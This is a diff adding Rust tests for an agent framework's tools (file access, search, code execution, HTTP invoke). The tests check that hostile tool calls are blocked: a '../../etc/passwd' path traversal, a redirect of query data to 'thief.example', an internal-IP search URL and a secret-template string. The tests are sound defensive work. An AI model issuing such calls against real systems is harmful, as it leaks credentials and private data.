@@ -1,0 +1,168 @@
+//! The tools as agents have them.
+
+use serde_json::{Map, Value as Json, json};
+use weft_core::citation::Chunk;
+use weft_core::seam::chat_model::{Author, ChatDelta};
+use weft_core::seam::http::HttpResponse;
+
+use crate::testing::{Node, Setting, Stage};
+
+/// What the calls of one round give to an agent that has these tools.
+async fn called(tools: Json, calls: &[(&str, Json)]) -> (Vec<String>, Stage) {
+    let node = Node::new("Agent", json!({"llm_id": "tools", "tools": tools}));
+    let component = node.build();
+    let stage = Stage::new(&node, &*component, Setting { query: "Q", ..Setting::default() });
+    let files = &stage.ctx.run.seams.workspace;
+    files.write(&stage.ctx.run.tenant, "notes.md", "one\ntwo").await.unwrap();
+    let hits = json!({"results": [{"url": "https://a.example/", "title": "A", "content": "about a"}]});
+    let page = HttpResponse { status: 200, headers: Vec::new(), body: hits.to_string() };
+    stage.outside.pages.lock().unwrap().push(Ok(page));
+    let chunk = |id: &str| Chunk { id: id.to_owned(), content: "known".to_owned(), ..Chunk::default() };
+    stage.outside.found.lock().unwrap().push(chunk("c"));
+    stage.answer((0..).zip(calls).map(|(index, (name, arguments))| ChatDelta::ToolCall {
+        index,
+        id: Some(format!("c{index}")),
+        name: Some((*name).to_owned()),
+        arguments: arguments.to_string(),
+    }));
+    stage.answer_text("Done.");
+    let outputs = json!(component.run(&stage.ctx).await.unwrap().outputs);
+    assert_eq!(outputs["content"], "Done.");
+    let messages = stage.asked()[1].messages.clone();
+    let results = messages.iter().filter(|message| message.author == Author::Tool);
+    (results.map(|message| message.text.clone()).collect(), stage)
+}
+
+fn tool(kind: &str, params: Json) -> Json {
+    let mut tool = json!({"component_name": kind, "name": kind});
+    tool["params"] = params;
+    tool
+}
+
+#[tokio::test]
+async fn one_agent_searches_reads_writes_and_calculates() {
+    let tools = json!([
+        tool("Retrieval", json!({})),
+        tool("WebSearch", json!({"engine": "searxng", "searxng_url": "https://s.example"})),
+        tool("ReadFile", json!({})),
+        tool("WriteFile", json!({})),
+        tool("Calculator", json!({})),
+        tool("CurrentTime", json!({})),
+        tool("CodeExec", json!({"lang": "python", "arguments": {"question": "{sys.query}"}})),
+    ]);
+    let names: Vec<String> = {
+        let (_, stage) = called(tools.clone(), &[]).await;
+        stage.asked()[0].tools.iter().map(|tool| tool.name.clone()).collect()
+    };
+    let stems = [
+        "search_my_dataset",
+        "web_search",
+        "read_file",
+        "write_file",
+        "calculator",
+        "current_time",
+        "execute_code",
+    ];
+    assert_eq!(names.len(), stems.len());
+    for (name, stem) in names.iter().zip(stems) {
+        assert!(name.starts_with(stem), "{name}");
+    }
+    let script =
+        "async function main({question}) { console.log(`{sys.query}`); return {question, n: 60*60} }";
+    let calls = [
+        (&*names[0], json!({"query": "known"})),
+        (&*names[2], json!({"path": "notes.md", "from": "2"})),
+        (&*names[2], json!({"path": "../../etc/passwd"})),
+        (&*names[3], json!({"path": "out/{sys.query}.md", "content": "{env.key} {{ 1 }}"})),
+        (&*names[4], json!({"expression": "2^10 + 0.1 + 0.2"})),
+        (&*names[5], json!({"timezone": "Asia/Tokyo"})),
+        (&*names[1], json!({"query": "a"})),
+        (&*names[6], json!({"lang": "javascript", "script": script})),
+        (
+            &*names[6],
+            json!({"lang": "javascript", "script": "function main() {\n  return fetch('https://a.example') }"}),
+        ),
+        (&*names[6], json!({"lang": "python", "script": "def main(question): return 1"})),
+        (&*names[6], json!({"lang": "javascript", "script": script, "arguments": {}})),
+    ];
+    let (results, stage) = called(tools, &calls).await;
+    let check = |place: usize, part: &str| assert!(results[place].contains(part), "{}", results[place]);
+    check(0, "ID: 0\n");
+    assert_eq!(results[1], "two");
+    check(2, "\"kind\":\"DENIED\"");
+    check(3, "`out/{sys.query}.md`");
+    assert_eq!(results[4], "1024.3");
+    assert_eq!(results[5], "Thursday 1970-01-01T09:00:00+09:00 (Asia/Tokyo)");
+    check(6, "ID: 1\nTitle: A\n");
+    let ran = json!({"result": {"question": "Q", "n": 3600}, "stdout": "{sys.query}\n"});
+    assert_eq!(serde_json::from_str::<Json>(&results[7]).unwrap(), ran);
+    check(8, "in line 2: ReferenceError: fetch is not defined");
+    check(9, "write the program in JavaScript");
+    check(10, "`arguments`");
+    // What a model writes is never taken for a reference.
+    let files = &stage.ctx.run.seams.workspace;
+    let written = files.read(&stage.ctx.run.tenant, "out/{sys.query}.md").await.unwrap();
+    assert_eq!(written, "{env.key} {{ 1 }}");
+    assert_eq!(stage.ctx.run.citations.all().len(), 2);
+}
+
+#[tokio::test]
+async fn a_model_cannot_choose_what_the_canvas_has_to() {
+    let tools = json!([
+        tool("SearXNG", json!({"searxng_url": "https://s.example"})),
+        tool("Invoke", json!({"url": "https://i.example", "headers": {"X-Key": "secret"}})),
+    ]);
+    let (_, stage) = called(tools.clone(), &[]).await;
+    let names: Vec<String> = stage.asked()[0].tools.iter().map(|tool| tool.name.clone()).collect();
+    let calls = [
+        (&*names[0], json!({"query": "a", "searxng_url": "http://10.0.0.1"})),
+        (&*names[1], json!({"fields": {"q": "{sys.query}"}, "url": "https://thief.example"})),
+        (&*names[1], json!({"fields": {"q": "{sys.query}"}})),
+    ];
+    let (results, stage) = called(tools, &calls).await;
+    assert!(results[0].contains("searxng_url") && results[1].contains("url"), "{results:?}");
+    let sent = stage.outside.sent.lock().unwrap().clone();
+    let sent: Vec<&str> = sent.iter().map(|request| request.url.as_str()).collect();
+    assert_eq!(sent, ["https://i.example/?q=%7Bsys.query%7D"]);
+}
+
+#[test]
+fn what_models_fill_in_are_parameters_of_the_component() {
+    let members = |schema: &Json| schema["properties"].as_object().cloned().unwrap_or_else(Map::new);
+    for spec in crate::catalog::ALL {
+        let Some(tool) = &spec.tool else { continue };
+        let function = tool.function;
+        assert!(
+            function.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_'),
+            "{function}"
+        );
+        let arguments = (tool.arguments)();
+        // What is not on offer cannot be set: parameters that only the canvas may give are among the rest.
+        let shut = (&arguments["type"], &arguments["additionalProperties"]);
+        assert_eq!(shut, (&json!("object"), &json!(false)), "{function}");
+        let params = members(&(spec.params_schema)());
+        for (name, argument) in members(&arguments) {
+            assert!(params.contains_key(&name) || spec.kind == "Agent", "{function}: {name}");
+            assert!(argument["description"].is_string(), "{function}: {name}");
+        }
+        for name in arguments["required"].as_array().into_iter().flatten() {
+            assert!(members(&arguments).contains_key(name.as_str().unwrap()), "{function}: {name}");
+        }
+    }
+}
+
+/// A path that the canvas sets is the path: the model is not asked for it, and cannot choose another one.
+#[tokio::test]
+async fn what_the_canvas_sets_for_a_tool_is_fixed() {
+    let tools = json!([tool("WriteFile", json!({"path": "fixed.txt"}))]);
+    let calls = [
+        ("write_file_0", json!({"content": "plain"})),
+        ("write_file_0", json!({"content": "x", "path": "other.txt"})),
+    ];
+    let (results, stage) = called(tools, &calls).await;
+    assert!(results[0].contains("made `fixed.txt`"), "{}", results[0]);
+    assert!(results[1].contains("`path`"), "{}", results[1]);
+    let files = &stage.ctx.run.seams.workspace;
+    assert_eq!(files.read(&stage.ctx.run.tenant, "fixed.txt").await.unwrap(), "plain");
+    assert!(files.read(&stage.ctx.run.tenant, "other.txt").await.is_err());
+}
